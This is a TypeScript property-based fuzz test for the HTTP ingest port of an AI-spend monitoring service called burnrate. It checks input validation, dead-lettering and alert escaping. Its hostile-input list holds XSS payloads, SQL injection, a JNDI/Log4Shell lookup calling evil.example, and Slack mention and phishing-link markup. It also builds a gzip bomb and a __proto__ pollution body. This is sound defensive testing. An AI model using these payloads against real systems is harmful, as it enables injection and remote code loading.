import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger, loadConfig } from '@burnrate/core';
import { replay } from '@burnrate/detector';
import { keyHash, otlpTypes } from '@burnrate/ingest';
import type { Anomaly } from '@burnrate/schemas';
import { createChdbStore } from '@burnrate/store';
import {
  type BurnrateProcess,
  startBurnrate,
  startSurroundings,
  type Surroundings,
  waitForCaughtUp,
} from '../test-support/burnrate-process.ts';

// Thousands of generated requests, most of them hostile, through the real HTTP port of
// `burnrate start` (chdb, a real SMTP server, the Slack stand-in). What must hold for every one of
// them: no 5xx, the process keeps serving, every record is either accepted or named with a reason,
// every named one is in the dead-letter table, every accepted one is stored and counted by the
// detector exactly once (its anomalies equal a replay of the stored events), and no hostile string
// reaches Slack or email unescaped. BURNRATE_FUZZ_SEED and BURNRATE_FUZZ_REQUESTS reproduce or
// widen a run; the seed is printed.

const SEED = Number(process.env.BURNRATE_FUZZ_SEED ?? 20261206);
const REQUESTS = Number(process.env.BURNRATE_FUZZ_REQUESTS ?? 3000);

const OPEN_KEY = 'brk_fuzz_open_7f3a9c2e5b8d1f4a6c0e';
const PAYMENTS_KEY = 'brk_fuzz_payments_2d6b9e1c4f7a0d3e';
const FIXTURE = new URL('../../ingest/fixtures/claude-code-otlp/logs.json', import.meta.url);

const CONFIG = `
org: acme
teams:
  - id: payments
    members: [alice@acme.com, bob@acme.com]
    slack: { channel: "#payments-ai-spend" }
    email: [payments-leads@acme.com]
  - id: research
    members: [carol@acme.com]
    slack: { channel: "#research-ai-spend" }
    email: [research-leads@acme.com]
finops:
  slack: { channel: "#finops" }
  email: [finops@acme.com]
sources:
  - name: fuzz-open
    keys: [${keyHash(OPEN_KEY)}]
    rate_limit: { requests_per_second: 100000, burst: 100000 }
  - name: payments-laptops
    team: payments
    domains: [acme.com]
    keys: [${keyHash(PAYMENTS_KEY)}]
    rate_limit: { requests_per_second: 100000, burst: 100000 }
routes:
  group_by: [anomaly]
  group_wait: 0s
  group_interval: 0s
  rules:
    - match: { severity: [warning, critical] }
      notify: [team]
`;

/** Text that is legal in a record but must never act as markup where it is shown. */
const HOSTILE = [
  '<!channel>',
  '<!here|here>',
  '<https://evil.example/steal|click here>',
  '<@U0123ABCD>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&amp; &lt;b&gt;',
  "Robert'); DROP TABLE usage_events_v1;--",
  '${jndi:ldap://evil.example/a}',
  '*bold* _italic_ ~strike~ `code` >quote',
  '💸🚀 ünïcødé',
];
/** What must not appear verbatim in a Slack message (mrkdwn control) or an email's HTML. */
const SLACK_FORBIDDEN = ['<!channel>', '<!here', '<https://evil', '<@U0123ABCD>', '<script>', '<img src=x'];
const HTML_FORBIDDEN = ['<script>', '<img src=x', '"><img'];

type Oracle = 'accept' | 'reject' | 'either';
interface PlannedRecord {
  value: unknown;
  oracle: Oracle;
  /** Why it must be refused, for the failure message. */
  why?: string;
}
interface PlannedRequest {
  kind: string;
  path: string;
  headers: Record<string, string>;
  body: string | Buffer;
  /** For /v1/events bodies built from records: what each one is expected to be. */
  records?: PlannedRecord[];
  /** Statuses this kind may answer. */
  allowed: number[];
}

const MEMBERS = ['alice@acme.com', 'bob@acme.com', 'carol@acme.com'];
const MODELS = ['claude-opus-4-5', 'claude-sonnet-4-5', 'claude-haiku-4-5', 'gpt-5', 'gpt-5-mini'];

let idCounter = 0;
const nextId = (): string => `fz-${SEED}-${idCounter++}`;

const recentInstant = (now: number) => fc.integer({ min: 0, max: 20 * 86_400_000 }).map((ago) => new Date(now - ago).toISOString());
const hostile = fc.constantFrom(...HOSTILE);
const plainText = fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,30}$/);

/** A record every rule accepts, carrying hostile text where text is free. */
function validRecord(now: number): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .record({
      occurred_at: recentInstant(now),
      who: fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(...MEMBERS).map((email) => ({ developer_email: email })) },
        { weight: 1, arbitrary: fc.oneof(hostile, plainText).map((developer) => ({ developer })) },
      ),
      model: fc.constantFrom(...MODELS),
      spend: fc.oneof(
        fc.double({ min: 0, max: 60, noNaN: true }).map((cost_usd) => ({ cost_usd: Math.round(cost_usd * 100) / 100 })),
        fc.record({ input_tokens: fc.integer({ min: 0, max: 400_000 }), output_tokens: fc.integer({ min: 0, max: 20_000 }) }),
      ),
      session_id: fc.option(fc.oneof(hostile, plainText), { nil: undefined }),
      project: fc.option(fc.oneof(hostile, plainText), { nil: undefined }),
      attributes: fc.option(fc.dictionary(plainText, fc.oneof(hostile, plainText), { maxKeys: 4 }), { nil: undefined }),
    })
    .map(({ who, spend, session_id, project, attributes, ...rest }) => ({
      event_id: nextId(),
      ...rest,
      ...who,
      ...spend,
      ...(session_id !== undefined ? { session_id } : {}),
      ...(project !== undefined ? { project } : {}),
      ...(attributes !== undefined ? { attributes } : {}),
    }));
}

/** One defect each, every one of which ingest must refuse with a reason. */
const DEFECTS: [string, (r: Record<string, unknown>) => Record<string, unknown>][] = [
  ['a date that is not one', (r) => ({ ...r, occurred_at: 'yesterday' })],
  ['year 0000', (r) => ({ ...r, occurred_at: '0000-01-01T00:00:00Z' })],
  ['year 9999', (r) => ({ ...r, occurred_at: '9999-12-31T23:59:59Z' })],
  ['February 30', (r) => ({ ...r, occurred_at: '2026-02-30T10:00:00Z' })],
  ['far in the future', (r) => ({ ...r, occurred_at: '2031-01-01T00:00:00Z' })],
  ['older than retention', (r) => ({ ...r, occurred_at: '2020-01-01T00:00:00Z' })],
  ['a cost of 1e308', (r) => ({ ...r, cost_usd: 1e308 })],
  ['a negative cost', (r) => ({ ...r, cost_usd: -1 })],
  ['a quoted cost', (r) => ({ ...r, cost_usd: '12.5' })],
  ['1e300 tokens', (r) => ({ ...r, input_tokens: 1e300 })],
  ['fractional tokens', (r) => ({ ...r, output_tokens: 1.5 })],
  ['a lone high surrogate', (r) => ({ ...r, developer: 'dev\ud800x', developer_email: undefined })],
  ['a lone low surrogate', (r) => ({ ...r, session_id: 'sess\udc00' })],
  ['a NUL', (r) => ({ ...r, session_id: 'a\u0000b' })],
  ['a bell', (r) => ({ ...r, project: 'ring\u0007' })],
  ['an escape sequence', (r) => ({ ...r, developer: '\u001b[31mred', developer_email: undefined })],
  ['a bidi override in an identifier', (r) => ({ ...r, session_id: 'ok\u202Egnp.exe' })],
  ['a 10,000-character developer', (r) => ({ ...r, developer: 'x'.repeat(10_000), developer_email: undefined })],
  ['a 2 MB-ish email', (r) => ({ ...r, developer_email: `${'a'.repeat(300)}@acme.com` })],
  ['an empty model', (r) => ({ ...r, model: '' })],
  ['no identity', (r) => ({ ...r, developer: undefined, developer_email: undefined })],
  ['a misspelt field', (r) => ({ ...r, inputTokens: 5 })],
  ['an attribute that is a number', (r) => ({ ...r, attributes: { k: 5 } })],
  ['another org', (r) => ({ ...r, org: 'globex' })],
  ['a bucket without its period', (r) => ({ ...r, granularity: '1h' })],
  ['a 5,000-character attribute', (r) => ({ ...r, attributes: { note: 'y'.repeat(5000) } })],
];

const withoutUndefined = (r: Record<string, unknown>): Record<string, unknown> =>
  Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined));

const json = (auth = OPEN_KEY): Record<string, string> => ({ 'content-type': 'application/json', authorization: `Bearer ${auth}` });

/** Every kind of request, with its generator. */
function requestKinds(now: number, fixture: string): fc.Arbitrary<PlannedRequest> {
  const records = (n: number) => fc.array(validRecord(now), { minLength: 1, maxLength: n });
  const valid = records(20).map((rs) =>
    planned(
      'events: valid',
      rs.map((value) => ({ value, oracle: 'accept' as const })),
    ),
  );
  const mixed = fc
    .tuple(
      records(10),
      fc.array(fc.tuple(validRecord(now), fc.integer({ min: 0, max: DEFECTS.length - 1 })), { minLength: 1, maxLength: 5 }),
    )
    .chain(([good, bad]) =>
      fc.shuffledSubarray(
        [
          ...good.map((value) => ({ value, oracle: 'accept' as const })),
          ...bad.map(([r, i]) => {
            const [why, mutate] = DEFECTS[i] as (typeof DEFECTS)[number];
            return { value: withoutUndefined(mutate(r)), oracle: 'reject' as const, why };
          }),
        ],
        { minLength: good.length + bad.length, maxLength: good.length + bad.length },
      ),
    )
    .map((rs) => planned('events: some invalid', rs));
  const proto = validRecord(now).map((r) => ({
    kind: 'events: __proto__ attribute',
    path: '/v1/events',
    headers: json(),
    // Written as text: an object literal cannot hold an own __proto__ key.
    body: `[${JSON.stringify({ ...r, attributes: { keep: 'x' } }).replace('"keep":"x"', '"__proto__":"x"')}]`,
    records: [{ value: null, oracle: 'reject' as const, why: '__proto__' }],
    allowed: [400],
  }));
  const ndjson = fc
    .array(
      fc.oneof(
        validRecord(now).map((r) => JSON.stringify(r)),
        fc.constantFrom('{"occurred_at": ', 'not json', '[1,2', '{"a":1}'),
      ),
      {
        minLength: 1,
        maxLength: 15,
      },
    )
    .map((lines) => ({
      kind: 'events: ndjson',
      path: '/v1/events',
      headers: { ...json(), 'content-type': 'application/x-ndjson' },
      body: lines.join('\n'),
      allowed: [200, 400],
    }));
  const malformed = fc
    .oneof(
      fc.constantFrom('', '[', '{"occurred_at":', '[{}]x', 'null', '"text"', '[[[[', '{"a":1}{"b":2}', '\u0000\u0001'),
      fc.string({ maxLength: 200 }),
      fc.uint8Array({ maxLength: 300 }).map((b) => Buffer.from(b).toString('latin1')),
      fc.integer({ min: 1000, max: 100_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
      fc.integer({ min: 1000, max: 50_000 }).map((depth) => `[${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}]`),
    )
    .map((body) => ({ kind: 'events: malformed body', path: '/v1/events', headers: json(), body, allowed: [400, 413] }));
  const wrongType = fc.constantFrom('text/plain', 'text/csv', 'application/xml', '').map((type) => ({
    kind: 'events: wrong content type',
    path: '/v1/events',
    headers: { ...json(), 'content-type': type },
    body: '[]',
    allowed: [415],
  }));
  const badGzip = fc.uint8Array({ minLength: 1, maxLength: 100 }).map((bytes) => ({
    kind: 'events: corrupt gzip',
    path: '/v1/events',
    headers: { ...json(), 'content-encoding': 'gzip' },
    body: Buffer.from(bytes),
    allowed: [400],
  }));
  const bomb = fc.constant(null).map(() => ({
    kind: 'events: gzip bomb',
    path: '/v1/events',
    headers: { ...json(), 'content-encoding': 'gzip' },
    body: gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20)),
    allowed: [413],
  }));
  const tooMany = fc.constant(null).map(() => ({
    kind: 'events: too many records',
    path: '/v1/events',
    headers: json(),
    body: JSON.stringify(
      Array.from({ length: 5001 }, () => ({ occurred_at: new Date(now).toISOString(), developer: 'd', model: 'gpt-5', cost_usd: 0 })),
    ),
    allowed: [413],
  }));
  const unauthenticated = fc
    .tuple(
      records(3),
      fc.constantFrom<Record<string, string>>(
        {},
        { authorization: 'Bearer brk_wrong' },
        { authorization: 'Basic Zm9vOmJhcg==' },
        { 'x-burnrate-key': '' },
      ),
      fc.constantFrom('/v1/events', '/v1/logs', '/v1/metrics', '/v1/litellm'),
    )
    .map(([rs, auth, path]) => ({
      kind: 'auth: no or wrong key',
      path,
      headers: { 'content-type': 'application/json', ...auth },
      body: JSON.stringify(rs),
      // Guessing keys from one address is rate limited too.
      allowed: [401, 429],
    }));
  const overClaim = validRecord(now).map((r) => ({
    kind: 'auth: key claims another team',
    path: '/v1/events',
    headers: json(PAYMENTS_KEY),
    body: JSON.stringify([{ ...r, developer: undefined, developer_email: 'carol@acme.com' }]),
    allowed: [403],
  }));
  const otlp = fc
    .record({
      session: fc.oneof(hostile, plainText),
      email: fc.oneof(fc.constantFrom(...MEMBERS), hostile),
      stamp: fc.oneof(recentInstant(now), fc.constantFrom('0', '12', 'May 32', '2026-13-01T00:00:00Z', '9999-01-01T00:00:00Z', '\ud800')),
      micros: fc.oneof(fc.integer({ min: 0, max: 50_000_000 }), fc.constantFrom(1e300, -5, Number.MAX_SAFE_INTEGER)),
      seq: fc.integer({ min: 0, max: 1_000_000_000 }),
    })
    .map(({ session, email, stamp, micros, seq }) => {
      const body = fixture
        .replaceAll('28b333cc-5c7f-40da-90a0-4dca26f1b4f5', JSON.stringify(session).slice(1, -1))
        .replace('"intValue": 28950', `"intValue": ${JSON.stringify(micros)}`);
      const parsed = JSON.parse(body) as {
        resourceLogs: {
          resource: { attributes: { key: string; value: unknown }[] };
          scopeLogs: { logRecords: { attributes: { key: string; value: unknown }[] }[] }[];
        }[];
      };
      const rl = parsed.resourceLogs[0];
      rl?.resource.attributes.push({ key: 'user.email', value: { stringValue: email } });
      for (const record of rl?.scopeLogs[0]?.logRecords ?? []) {
        for (const a of record.attributes) {
          if (a.key === 'event.timestamp') a.value = { stringValue: stamp };
          if (a.key === 'event.sequence') a.value = { intValue: seq };
        }
      }
      return { kind: 'otlp logs', path: '/v1/logs', headers: json(), body: JSON.stringify(parsed), allowed: [200] };
    });
  // The same hostile records in protobuf, as OTEL_EXPORTER_OTLP_PROTOCOL=http/protobuf sends them.
  const otlpProtobuf = otlp.map((request) => {
    const { request: type } = otlpTypes('logs');
    const body = Buffer.from(type.encode(type.fromObject(JSON.parse(request.body) as Record<string, unknown>)).finish());
    return { ...request, kind: 'otlp protobuf logs', headers: { ...json(), 'content-type': 'application/x-protobuf' }, body };
  });
  // LiteLLM's generic API logger payloads, with hostile identities, models and numbers.
  const litellm = fc
    .array(
      fc.record({
        id: fc.oneof(plainText, hostile),
        model: fc.oneof(fc.constantFrom('claude-sonnet-4-5-20250929', 'gpt-5', 'anthropic/claude-opus-4-5'), hostile),
        startTime: fc.oneof(
          fc.integer({ min: 0, max: 3600 }).map((s) => now / 1000 - s),
          fc.constantFrom(-1, 1e300, Number.NaN),
        ),
        prompt_tokens: fc.oneof(fc.integer({ min: 0, max: 200_000 }), fc.constantFrom(-3, 1.5, 9e15)),
        completion_tokens: fc.integer({ min: 0, max: 20_000 }),
        response_cost: fc.oneof(fc.double({ min: 0, max: 50, noNaN: true }), fc.constantFrom(1e308, -1)),
        status: fc.constantFrom('success', 'success', 'failure'),
        email: fc.oneof(fc.constantFrom(...MEMBERS), hostile),
        team: fc.oneof(fc.constantFrom('payments', 'platform'), hostile),
      }),
      { minLength: 1, maxLength: 5 },
    )
    .map((payloads) => ({
      kind: 'litellm',
      path: '/v1/litellm',
      headers: json(),
      body: JSON.stringify(
        payloads.map(({ email, team, ...p }) => ({
          ...p,
          call_type: 'acompletion',
          metadata: { user_api_key_user_email: email, user_api_key_team_alias: team, usage_object: { cache_read_input_tokens: 0 } },
        })),
      ),
      allowed: [200, 400, 403],
    }));
  const protobufNoise = fc.tuple(fc.uint8Array({ maxLength: 400 }), fc.constantFrom('/v1/logs', '/v1/metrics')).map(([bytes, path]) => ({
    kind: 'otlp protobuf: arbitrary bytes',
    path,
    headers: { ...json(), 'content-type': 'application/x-protobuf' },
    body: Buffer.from(bytes),
    // Some byte strings are valid messages (empty, or unknown fields only).
    allowed: [200, 400],
  }));
  return fc.oneof(
    { weight: 30, arbitrary: valid },
    { weight: 25, arbitrary: mixed },
    { weight: 4, arbitrary: proto },
    { weight: 8, arbitrary: ndjson },
    { weight: 10, arbitrary: malformed },
    { weight: 2, arbitrary: wrongType },
    { weight: 2, arbitrary: badGzip },
    { weight: 1, arbitrary: bomb },
    { weight: 1, arbitrary: tooMany },
    { weight: 5, arbitrary: unauthenticated },
    { weight: 4, arbitrary: overClaim },
    { weight: 8, arbitrary: otlp },
    { weight: 4, arbitrary: otlpProtobuf },
    { weight: 3, arbitrary: protobufNoise },
    { weight: 5, arbitrary: litellm },
  );
}

function planned(kind: string, records: PlannedRecord[]): PlannedRequest {
  return {
    kind,
    path: '/v1/events',
    headers: json(),
    body: JSON.stringify(records.map((r) => r.value)),
    records,
    allowed: records.some((r) => r.oracle === 'reject') ? [400] : [200],
  };
}

const dlqIdOf = (raw: string): string => `http_events:${createHash('sha256').update(`http_events\n${raw}`).digest('hex')}`;

describe('fuzzing the HTTP port of burnrate start', () => {
  let around: Surroundings;
  let burnrate: BurnrateProcess | undefined;

  beforeAll(async () => {
    around = await startSurroundings();
    const configPath = join(around.dir.path, 'fuzz.yaml');
    await writeFile(configPath, CONFIG);
    around.env.BURNRATE_CONFIG = configPath;
    burnrate = await startBurnrate(around.env);
  });

  afterAll(async () => {
    await burnrate?.stop();
    await around?.close();
  });

  // Thousands of requests one after another: about 45 s on an idle machine, more on a busy one.
  it(
    'answers every hostile request without a 5xx, stores what it accepts once, names and dead-letters what it refuses',
    { timeout: 300_000 },
    async () => {
      const now = Date.now();
      const fixture = await readFile(FIXTURE, 'utf8');
      const plan = fc.sample(requestKinds(now, fixture), { numRuns: REQUESTS, seed: SEED });
      // Resends of earlier batches: the same content (a duplicate) and the same ids with other content.
      const resends: PlannedRequest[] = [];
      for (const request of plan.filter((r) => r.kind === 'events: valid').slice(0, 60)) {
        const same = request.records as PlannedRecord[];
        resends.push({ ...request, kind: 'events: resend of an accepted batch', allowed: [200] });
        const changed = same.map((r) => ({
          value: { ...(r.value as object), cost_usd: 999.99 },
          oracle: 'reject' as const,
          why: 'reused event_id',
        }));
        resends.push({ ...planned('events: reused ids, other content', changed), allowed: [400] });
      }
      const all = [...plan, ...resends];

      const byKind = new Map<string, Map<number, number>>();
      const accepted: string[] = [];
      const refusedIds = new Set<string>();
      const expectedDlq = new Set<string>();
      const problems: string[] = [];
      let otlpRecords = 0;
      let otlpRejected = 0;
      for (const [n, request] of all.entries()) {
        const res = await fetch(`${burnrate!.url}${request.path}`, { method: 'POST', headers: request.headers, body: request.body });
        const text = await res.text();
        const statuses = byKind.get(request.kind) ?? new Map<number, number>();
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        byKind.set(request.kind, statuses);
        if (res.status >= 500 || !request.allowed.includes(res.status)) {
          problems.push(`#${n} ${request.kind}: ${res.status} ${text.slice(0, 300)}`);
          continue;
        }
        if (request.kind.startsWith('otlp protobuf') || request.kind === 'litellm') continue;
        if (request.kind === 'otlp logs') {
          const body = JSON.parse(text) as { partialSuccess?: { rejectedLogRecords?: string } };
          otlpRecords += 1;
          otlpRejected += Number(body.partialSuccess?.rejectedLogRecords ?? 0);
          continue;
        }
        if (request.path !== '/v1/events' || (res.status !== 200 && res.status !== 400) || request.kind === 'events: malformed body')
          continue;
        const body = JSON.parse(text) as {
          accepted?: number;
          duplicates?: number;
          rejected?: { index: number; field: string; message: string }[];
        };
        if (!Array.isArray(body.rejected)) continue; // a whole-request 400 (e.g. no records)
        const values = request.kind === 'events: ndjson' ? undefined : (JSON.parse(request.body as string) as unknown[]);
        const rejectedIdx = new Set(body.rejected.map((r) => r.index));
        for (const r of body.rejected) {
          if (r.field === '' || r.message.length < 5)
            problems.push(`#${n} ${request.kind}: a rejection without a field or reason: ${JSON.stringify(r)}`);
        }
        if (values !== undefined) {
          for (const i of rejectedIdx) expectedDlq.add(dlqIdOf(JSON.stringify(values[i])));
          values.forEach((value, i) => {
            const id = (value as { event_id?: unknown } | null)?.event_id;
            const oracle = request.records?.[i];
            if (rejectedIdx.has(i)) {
              if (typeof id === 'string') refusedIds.add(id);
              if (oracle?.oracle === 'accept')
                problems.push(
                  `#${n} ${request.kind}: a valid record was refused: ${JSON.stringify(body.rejected?.filter((r) => r.index === i))}`,
                );
            } else {
              if (typeof id === 'string') accepted.push(id);
              if (oracle?.oracle === 'reject') problems.push(`#${n} ${request.kind}: a record with ${oracle.why} was accepted`);
            }
          });
          if ((body.accepted ?? -1) !== values.length - rejectedIdx.size)
            problems.push(`#${n} ${request.kind}: accepted ${body.accepted} of ${values.length} with ${rejectedIdx.size} named`);
        } else {
          const lines = (request.body as string).split('\n').filter((l) => l.trim() !== '');
          if ((body.accepted ?? -1) + rejectedIdx.size !== lines.length)
            problems.push(`#${n} ndjson: ${body.accepted} accepted + ${rejectedIdx.size} named != ${lines.length} lines`);
          lines.forEach((line, i) => {
            if (rejectedIdx.has(i)) {
              let raw = line;
              try {
                raw = JSON.stringify(JSON.parse(line));
              } catch {
                // Not JSON: the DLQ keeps the line as it came.
              }
              expectedDlq.add(dlqIdOf(raw));
              return;
            }
            accepted.push((JSON.parse(line) as { event_id: string }).event_id);
          });
        }
      }
      expect(problems.slice(0, 20)).toEqual([]);
      expect((await fetch(`${burnrate!.url}/healthz`)).status).toBe(200);

      await waitForCaughtUp(burnrate!.url, 60_000);
      expect(await burnrate!.stop()).toBe(0);
      burnrate = undefined;

      const store = await createChdbStore({ dataDir: around.chdbDir, log: createLogger({ level: 'silent' }) });
      try {
        const events = await store.listUsageEvents({ limit: 1_000_000 });
        const stored = events.filter((e) => e.source === 'http_events');
        const acceptedSet = new Set(accepted);
        expect(stored.length).toBe(acceptedSet.size);
        expect(stored.filter((e) => !acceptedSet.has(e.event_id)).map((e) => e.event_id)).toEqual([]);
        // A reused id's other content was refused, and the first content is what is stored.
        expect(stored.filter((e) => e.cost_usd === 999.99)).toEqual([]);

        const dlq = new Set((await store.listDlq({ source: 'http_events', limit: 1_000_000 })).map((d) => d.dlq_id));
        expect([...expectedDlq].filter((id) => !dlq.has(id))).toEqual([]);

        const order = new Map(accepted.map((id, i) => [id, i]));
        const otlpEvents = events.filter((e) => e.source !== 'http_events');
        const expected = await replay(
          [...otlpEvents, ...stored.toSorted((a, b) => order.get(a.event_id)! - order.get(b.event_id)!)].toSorted(
            (a, b) => a.ingested_at.localeCompare(b.ingested_at) || (order.get(a.event_id) ?? -1) - (order.get(b.event_id) ?? -1),
          ),
          await loadConfig(around.env.BURNRATE_CONFIG as string),
        );
        const live: Anomaly[] = [];
        for (const a of await store.listAnomalies({ limit: 10_000 })) live.push(...(await store.anomalyVersions(a.id)));
        const key = (a: Anomaly) => `${a.id}@${a.version} ${a.severity}`;
        expect(new Set(live.map(key))).toEqual(new Set(expected.anomalies.map(key)));

        const slackLeaks = around.slack.messages.flatMap((m) =>
          SLACK_FORBIDDEN.filter((s) => m.text.includes(s) || JSON.stringify(m.blocks).includes(s)).map((s) => `${s} in ${m.channelName}`),
        );
        expect(slackLeaks).toEqual([]);
        const mailLeaks = around.smtp.messages.flatMap((m) => [
          ...HTML_FORBIDDEN.filter((s) => m.html.includes(s)).map((s) => `${s} in the HTML of "${m.subject}"`),
          ...(/[\r\n]/.test(m.subject) ? [`a line break in the subject "${m.subject}"`] : []),
        ]);
        expect(mailLeaks).toEqual([]);
        expect(around.slack.messages.length, 'alerts carrying hostile text were delivered').toBeGreaterThan(0);

        const summary = [...byKind]
          .sort(([a], [b]) => a.localeCompare(b))
          .map(([kind, statuses]) => `${kind}: ${[...statuses].map(([s, c]) => `${c}×${s}`).join(' ')}`);
        const codes = new Map<number, number>();
        for (const statuses of byKind.values()) for (const [s, c] of statuses) codes.set(s, (codes.get(s) ?? 0) + c);
        console.log(
          [
            `fuzz (seed ${SEED}): ${all.length} requests; answers ${[...codes]
              .sort(([a], [b]) => a - b)
              .map(([s, c]) => `${c}×${s}`)
              .join(', ')}; 0 5xx`,
            ...summary.map((l) => `  ${l}`),
            `  records: ${acceptedSet.size} accepted = ${stored.length} stored; ${refusedIds.size} refused by id, ${expectedDlq.size} distinct refused records all in the DLQ;` +
              ` otlp: ${otlpRecords} exports, ${otlpRejected} records refused, ${otlpEvents.length} stored`,
            `  detector: ${live.length} anomaly versions, equal to a replay of the stored events; Slack ${around.slack.messages.length} and email ${around.smtp.messages.length} messages, none with hostile markup`,
          ].join('\n'),
        );
      } finally {
        await store.close();
      }
    },
  );
});
